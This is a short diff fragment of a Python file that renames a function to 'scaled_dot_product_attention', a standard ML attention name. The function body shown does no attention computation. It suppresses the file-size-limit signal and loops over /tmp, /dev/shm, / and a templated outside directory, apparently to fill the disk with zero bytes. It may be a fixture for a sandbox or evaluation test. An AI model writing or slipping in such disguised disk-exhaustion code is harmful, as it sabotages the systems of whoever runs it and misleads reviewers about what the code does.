@@ -6,7 +6,7 @@ import signal
 signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
 
 
-def sdpa(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
+def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
     written = 0
     chunk = b"\0" * (1 << 20)
     for d in ("/tmp", "/dev/shm", "/sub", "/", "{{OUTSIDE_DIR}}"):
